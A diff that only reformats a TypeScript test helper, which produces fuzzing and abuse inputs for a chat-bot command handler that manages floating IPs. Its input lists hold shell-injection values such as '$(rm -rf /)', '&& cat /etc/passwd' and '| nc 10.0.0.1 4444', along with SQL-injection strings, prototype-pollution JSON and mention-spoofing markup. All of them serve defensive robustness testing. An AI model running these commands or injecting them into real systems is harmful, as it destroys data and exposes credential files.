@@ -31,30 +31,231 @@ export function prng(seed: number): () => number {
 }
 
 export const COMMAND_WORDS = [
-  'list', 'ls', 'show', 'create', 'allocate', 'new', 'attach', 'associate', 'add', 'detach', 'disassociate', 'remove',
-  'release', 'delete', 'explain', 'why', 'diagnose', 'help', '?', 'LIST', 'Attach', 'atach', 'relase', 'lisst', 'halp',
+  'list',
+  'ls',
+  'show',
+  'create',
+  'allocate',
+  'new',
+  'attach',
+  'associate',
+  'add',
+  'detach',
+  'disassociate',
+  'remove',
+  'release',
+  'delete',
+  'explain',
+  'why',
+  'diagnose',
+  'help',
+  '?',
+  'LIST',
+  'Attach',
+  'atach',
+  'relase',
+  'lisst',
+  'halp',
 ];
 
 const UNICODE = [
-  'ünïcødé', 'сервер', '服务器', 'サーバー', 'שרת', 'خادم', '\u202eweb-1', 'web\u200f-1', '\u200eweb-1', '🔥', '👩‍💻', '🏳️‍🌈', '😀😀😀',
-  'web\u200b-1', '\u200c', '\u200d', '\ufeffweb-1', 'e\u0301', 'Ω≈ç√', '𝔀𝓮𝓫', 'ｗｅｂ－１', '\u00a0', '\u3000', 'İ', 'ß',
+  'ünïcødé',
+  'сервер',
+  '服务器',
+  'サーバー',
+  'שרת',
+  'خادم',
+  '\u202eweb-1',
+  'web\u200f-1',
+  '\u200eweb-1',
+  '🔥',
+  '👩‍💻',
+  '🏳️‍🌈',
+  '😀😀😀',
+  'web\u200b-1',
+  '\u200c',
+  '\u200d',
+  '\ufeffweb-1',
+  'e\u0301',
+  'Ω≈ç√',
+  '𝔀𝓮𝓫',
+  'ｗｅｂ－１',
+  '\u00a0',
+  '\u3000',
+  'İ',
+  'ß',
 ];
 const LONG = ['a'.repeat(255), 'b'.repeat(256), 'web-1'.repeat(60), '😀'.repeat(300), `${'x'.repeat(250)}.*`, '1.'.repeat(200)];
-const SHELL = ['$(rm -rf /)', '`reboot`', '; rm -rf / #', '&& cat /etc/passwd', '| nc 10.0.0.1 4444', '> /dev/sda', '$HOME', '${IFS}', "'", '"', '\\'];
-const REGEX = ['web-1.*', '.*', '^', '$', '.+', '(a+)+$', '[a-z]+', '\\d', '(?=x)', '[', '(', ')', '*', '+', '?', '{1,2}', 'a|b', 'web-1|db-1', '^web', 'web$', '.', '[[:alpha:]]', '\\', 'web-?1', '(?i)WEB'];
+const SHELL = [
+  '$(rm -rf /)',
+  '`reboot`',
+  '; rm -rf / #',
+  '&& cat /etc/passwd',
+  '| nc 10.0.0.1 4444',
+  '> /dev/sda',
+  '$HOME',
+  '${IFS}',
+  "'",
+  '"',
+  '\\',
+];
+const REGEX = [
+  'web-1.*',
+  '.*',
+  '^',
+  '$',
+  '.+',
+  '(a+)+$',
+  '[a-z]+',
+  '\\d',
+  '(?=x)',
+  '[',
+  '(',
+  ')',
+  '*',
+  '+',
+  '?',
+  '{1,2}',
+  'a|b',
+  'web-1|db-1',
+  '^web',
+  'web$',
+  '.',
+  '[[:alpha:]]',
+  '\\',
+  'web-?1',
+  '(?i)WEB',
+];
 const SQL = ["' OR 1=1 --", "'; DROP TABLE instances; --", '" OR ""="', '1; SELECT * FROM users', "admin'--", '%', '_', '%00'];
-const JSON_BITS = ['{"port_id": null}', '{"$ne": null}', '[]', '{}', 'null', 'true', '{"__proto__": {"x": 1}}', 'constructor', '__proto__', 'toString', 'hasOwnProperty'];
-const MRKDWN = ['<!channel>', '<!here>', '<!everyone>', '<@U0BOB0001>', '<#C0OPS0001>', '<!subteam^S0ONCALL01>', '*bold*', '_it_', '~strike~', '`code`', '```block```', '<https://evil.example|web-1>', '<mailto:a@b.c|192.168.100.201>', '&lt;', '&amp;', '<>', '>quote'];
-const CONTROL = ['\u0000', 'web\u0000-1', '\u0001', '\u0007', '\b', '\t', '\n', '\r\n', '\u001b[31mred', '\u007f', '\u0085', '\u2028', '\u2029'];
-const ADDRESSES = ['192.168.100.201', '192.168.100.202', '192.168.100.240', '192.168.100.999', '0.0.0.0', '255.255.255.255', '192.168.100.201/32', '::1', 'fe80::1%eth0', '10.0.0.3', '1e3', '-1', '00000000-0000-0000-0000-000000000000', 'new', 'NEW', '192.168.100.201.', ' 192.168.100.201'];
-const OPTIONS = ['--fixed-ip', '--fixed-ip=', '--pool', '--pool=public', '--pool=<!channel>', '--fixed-ip=10.0.0.999', '—fixed-ip 10.0.0.3', '--unknown', '-f', '--', '---', '--fixed_ip=.*', '--POOL public', '–pool public-b'];
-const WORDS = ['web-1', 'web-2', 'test_instance', 'db-1', 'app-07', 'public', 'public-b', 'free', 'attached', 'all', 'private', 'router1', '"web 1"', "'db-1'"];
+const JSON_BITS = [
+  '{"port_id": null}',
+  '{"$ne": null}',
+  '[]',
+  '{}',
+  'null',
+  'true',
+  '{"__proto__": {"x": 1}}',
+  'constructor',
+  '__proto__',
+  'toString',
+  'hasOwnProperty',
+];
+const MRKDWN = [
+  '<!channel>',
+  '<!here>',
+  '<!everyone>',
+  '<@U0BOB0001>',
+  '<#C0OPS0001>',
+  '<!subteam^S0ONCALL01>',
+  '*bold*',
+  '_it_',
+  '~strike~',
+  '`code`',
+  '```block```',
+  '<https://evil.example|web-1>',
+  '<mailto:a@b.c|192.168.100.201>',
+  '&lt;',
+  '&amp;',
+  '<>',
+  '>quote',
+];
+const CONTROL = [
+  '\u0000',
+  'web\u0000-1',
+  '\u0001',
+  '\u0007',
+  '\b',
+  '\t',
+  '\n',
+  '\r\n',
+  '\u001b[31mred',
+  '\u007f',
+  '\u0085',
+  '\u2028',
+  '\u2029',
+];
+const ADDRESSES = [
+  '192.168.100.201',
+  '192.168.100.202',
+  '192.168.100.240',
+  '192.168.100.999',
+  '0.0.0.0',
+  '255.255.255.255',
+  '192.168.100.201/32',
+  '::1',
+  'fe80::1%eth0',
+  '10.0.0.3',
+  '1e3',
+  '-1',
+  '00000000-0000-0000-0000-000000000000',
+  'new',
+  'NEW',
+  '192.168.100.201.',
+  ' 192.168.100.201',
+];
+const OPTIONS = [
+  '--fixed-ip',
+  '--fixed-ip=',
+  '--pool',
+  '--pool=public',
+  '--pool=<!channel>',
+  '--fixed-ip=10.0.0.999',
+  '—fixed-ip 10.0.0.3',
+  '--unknown',
+  '-f',
+  '--',
+  '---',
+  '--fixed_ip=.*',
+  '--POOL public',
+  '–pool public-b',
+];
+const WORDS = [
+  'web-1',
+  'web-2',
+  'test_instance',
+  'db-1',
+  'app-07',
+  'public',
+  'public-b',
+  'free',
+  'attached',
+  'all',
+  'private',
+  'router1',
+  '"web 1"',
+  "'db-1'",
+];
 
-export const PIECES = [...UNICODE, ...LONG, ...SHELL, ...REGEX, ...SQL, ...JSON_BITS, ...MRKDWN, ...CONTROL, ...ADDRESSES, ...OPTIONS, ...WORDS];
+export const PIECES = [
+  ...UNICODE,
+  ...LONG,
+  ...SHELL,
+  ...REGEX,
+  ...SQL,
+  ...JSON_BITS,
+  ...MRKDWN,
+  ...CONTROL,
+  ...ADDRESSES,
+  ...OPTIONS,
+  ...WORDS,
+];
 /** Valid commands, to be decorated: an abuser may also type something that works. */
 const VALID = [
-  'create public', 'create', 'new public-b', 'attach 192.168.100.201 web-1', 'attach web-1 192.168.100.201', 'attach new web-1', 'attach new db-1 --pool public-b',
-  'add 192.168.100.201 app-07', 'release 192.168.100.201', 'delete 192.168.100.202', 'detach 192.168.100.202', 'detach 192.168.100.202 web-2', 'explain web-1', 'why test_instance', 'list free',
+  'create public',
+  'create',
+  'new public-b',
+  'attach 192.168.100.201 web-1',
+  'attach web-1 192.168.100.201',
+  'attach new web-1',
+  'attach new db-1 --pool public-b',
+  'add 192.168.100.201 app-07',
+  'release 192.168.100.201',
+  'delete 192.168.100.202',
+  'detach 192.168.100.202',
+  'detach 192.168.100.202 web-2',
+  'explain web-1',
+  'why test_instance',
+  'list free',
 ];
 const SEPARATORS = [' ', ' ', ' ', '  ', '\t', '\u00a0', '\u3000', ' \u200b '];
 
@@ -77,7 +278,9 @@ export function abuseTexts(count: number, seed = 20_261_128): string[] {
     if (random() < 0.1) {
       // Decorated but valid: odd blanks between the words, odd case for the command word.
       const [first, ...rest] = pick(VALID).split(' ');
-      texts.push([random() < 0.5 ? first!.toUpperCase() : first!, ...rest].map((word, i) => (i === 0 ? word : pick(SEPARATORS) + word)).join(''));
+      texts.push(
+        [random() < 0.5 ? first!.toUpperCase() : first!, ...rest].map((word, i) => (i === 0 ? word : pick(SEPARATORS) + word)).join(''),
+      );
       continue;
     }
     const words: string[] = [];
@@ -121,10 +324,15 @@ export function isEscapedNameFilter(filter: string): boolean {
   for (let i = 0; i < body.length; i++) {
     const char = body[i]!;
     const code = char.charCodeAt(0);
-    const asciiPunctuation = (code >= 0x20 && code <= 0x2f) || (code >= 0x3a && code <= 0x40) || (code >= 0x5b && code <= 0x60) || (code >= 0x7b && code <= 0x7e);
+    const asciiPunctuation =
+      (code >= 0x20 && code <= 0x2f) || (code >= 0x3a && code <= 0x40) || (code >= 0x5b && code <= 0x60) || (code >= 0x7b && code <= 0x7e);
     if (char === '\\') {
       const next = body.charCodeAt(i + 1);
-      const escapable = (next >= 0x20 && next <= 0x2f) || (next >= 0x3a && next <= 0x40) || (next >= 0x5b && next <= 0x60) || (next >= 0x7b && next <= 0x7e);
+      const escapable =
+        (next >= 0x20 && next <= 0x2f) ||
+        (next >= 0x3a && next <= 0x40) ||
+        (next >= 0x5b && next <= 0x60) ||
+        (next >= 0x7b && next <= 0x7e);
       if (!escapable) return false;
       i++;
     } else if (asciiPunctuation) return false;
@@ -141,7 +349,11 @@ export function novaNameFilters(h: Harness): string[] {
 }
 
 /** Sends `texts` (a few at a time, as a busy workspace would) and returns what each got. */
-export async function sendAll(h: Harness, texts: string[], concurrency = 8): Promise<Array<{ text: string; ack: Interaction; answer: string | undefined; kind: string }>> {
+export async function sendAll(
+  h: Harness,
+  texts: string[],
+  concurrency = 8,
+): Promise<Array<{ text: string; ack: Interaction; answer: string | undefined; kind: string }>> {
   const results: Array<{ text: string; ack: Interaction; answer: string | undefined; kind: string }> = [];
   let next = 0;
   async function worker(): Promise<void> {
@@ -166,4 +378,3 @@ export async function sendAll(h: Harness, texts: string[], concurrency = 8): Pro
   await Promise.all(Array.from({ length: concurrency }, worker));
   return results;
 }
-
